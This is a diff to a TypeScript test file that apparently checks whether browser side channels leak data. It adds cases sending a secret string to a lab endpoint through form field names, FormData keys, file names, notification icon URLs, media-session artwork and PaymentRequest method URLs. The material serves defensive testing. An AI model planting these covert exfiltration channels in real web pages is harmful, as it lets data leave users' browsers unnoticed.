@@ -13,10 +13,11 @@ const held = (name: string, send: string, more: Partial<ChannelCase> = {}): Chan
 });
 
 /** A form `f` that is sent into a frame, whose navigation the page's window does not hear of. */
-const intoFrame = (name: string, fill: string): ChannelCase =>
+const intoFrame = (name: string, fill: string, more: Partial<ChannelCase> = {}): ChannelCase =>
   held(
     `${name} of a form that goes into a frame`,
     `const i = el('iframe'), f = el('form'), c = el('input'); i.name = 'an'; f.target = 'an'; f.method = 'post'; f.action = lab.at('in'); c.name = 'm'; document.body.append(i, f); ${fill}; f.submit()`,
+    more,
   );
 
 const WORKER = (c: CaseContext) =>
@@ -47,6 +48,9 @@ const byName = (name: string, leave: string): ChannelCase => ({
   drive: press,
 });
 
+/** A minute of sound that is played. */
+const PLAYED = `const wav = new Uint8Array(44 + 480000), v = new DataView(wav.buffer); wav.set(new TextEncoder().encode('RIFF????WAVEfmt ????????????????????data')); v.setUint32(4, 480036, true); v.setUint32(16, 16, true); v.setUint16(20, 1, true); v.setUint16(22, 1, true); v.setUint32(24, 8000, true); v.setUint32(28, 8000, true); v.setUint16(32, 1, true); v.setUint16(34, 8, true); v.setUint32(40, 480000, true); for (let i = 44; i < wav.length; i++) wav[i] = 128 + 60 * Math.sin(i / 3); const a = el('audio'); a.src = URL.createObjectURL(new Blob([wav], { type: 'audio/wav' })); a.loop = true; await a.play()`;
+
 /** A peer's description of itself, once it has found its own addresses. */
 const OFFERED = `async function offered(p) { await p.setLocalDescription(); while (p.iceGatheringState !== 'complete') await new Promise((d) => setTimeout(d, 20)); return p.localDescription.toJSON() }`;
 
@@ -65,6 +69,24 @@ testChannels('byways', import.meta.filename, [
     'an element of its own',
     `customElements.define('x-y', class extends HTMLElement { static formAssociated = true; i = this.attachInternals(); set v(t) { this.i.setFormValue(t) } }); const x = el('x-y'); x.setAttribute('name', 'm'); f.append(x); x.v = text`,
   ),
+  intoFrame('the name of a field', `c.name = text; c.value = 'x'; f.append(c)`),
+  intoFrame(
+    'the name of a chosen field among others',
+    `const s = el('select'), o = el('option'); s.name = lab.line; o.text = 'x'; s.append(o); f.append(c, s)`,
+  ),
+  held(
+    'the name of a field of a form that the page itself sends',
+    `const f = el('form'), c = el('input'), b = el('button'); f.method = 'post'; f.action = lab.at('in'); c.name = text; c.value = 'x'; f.append(c, b); document.body.append(f); f.requestSubmit()`,
+  ),
+  intoFrame('a field called after a level', `c.name = 'TOI_MAT'; c.value = text; f.append(c)`, {
+    cleanOnly: true,
+  }),
+  held(
+    'form data with a key called after a level',
+    `const f = new FormData(); f.append('TUYET_MAT', text); lab.send(f)`,
+    { cleanOnly: true },
+  ),
+  held('a key of form data', `const f = new FormData(); f.append(text, 'x'); lab.send(f)`),
   held(
     'the value of a button that sends a form into a frame',
     `const i = el('iframe'), f = el('form'), b = el('button'); i.name = 'an'; f.target = 'an'; f.method = 'post'; f.action = lab.at('in'); b.name = 'm'; b.value = text; f.append(b); document.body.append(i, f); b.click()`,
@@ -111,6 +133,52 @@ testChannels('byways', import.meta.filename, [
   held(
     'addresses that a cache fetches',
     `await (await caches.open('x')).addAll([new Request(lab.at('in') + '?d=' + encodeURIComponent(text))])`,
+  ),
+  held(
+    'the name of a Blob in form data',
+    `const f = new FormData(); f.append('t', new Blob(['x']), text); lab.send(f)`,
+  ),
+  held(
+    'the name of a File in form data',
+    `const f = new FormData(); f.append('t', new File(['x'], text)); lab.send(f)`,
+  ),
+  held(
+    'the icon of a notification',
+    `new Notification('x', { icon: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
+  ),
+  held(
+    'the badge of a notification',
+    `new Notification('x', { badge: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
+  ),
+  held(
+    'the image of a notification',
+    `new Notification('x', { image: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
+  ),
+  {
+    name: 'the icon of a notification that a service worker shows',
+    page: () => ({
+      '': scripted(
+        `const r = await navigator.serviceWorker.register('tho.js'); while (!r.active) await new Promise((d) => setTimeout(d, 20)); r.showNotification('x', { icon: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
+      ),
+      'tho.js': script(''),
+    }),
+    drive: press,
+  },
+  held(
+    'the picture of what plays',
+    `${PLAYED}; navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: lab.at('anh') + '?d=' + encodeURIComponent(text), sizes: '96x96', type: 'image/png' }] })`,
+  ),
+  held(
+    'a picture that what plays is given later',
+    `${PLAYED}; const m = navigator.mediaSession.metadata = new MediaMetadata({}); m.artwork = [{ src: lab.at('anh') + '?d=' + encodeURIComponent(text), sizes: '96x96', type: 'image/png' }]`,
+  ),
+  held(
+    'the method of a payment',
+    `new PaymentRequest([{ supportedMethods: lab.at('tra') + '?d=' + encodeURIComponent(text) }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment()`,
+  ),
+  held(
+    'the method of a payment that is shown',
+    `new PaymentRequest([{ supportedMethods: lab.at('tra') + '?d=' + encodeURIComponent(text) }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).show().catch(() => {})`,
   ),
   held(
     'the module of an audio worklet',
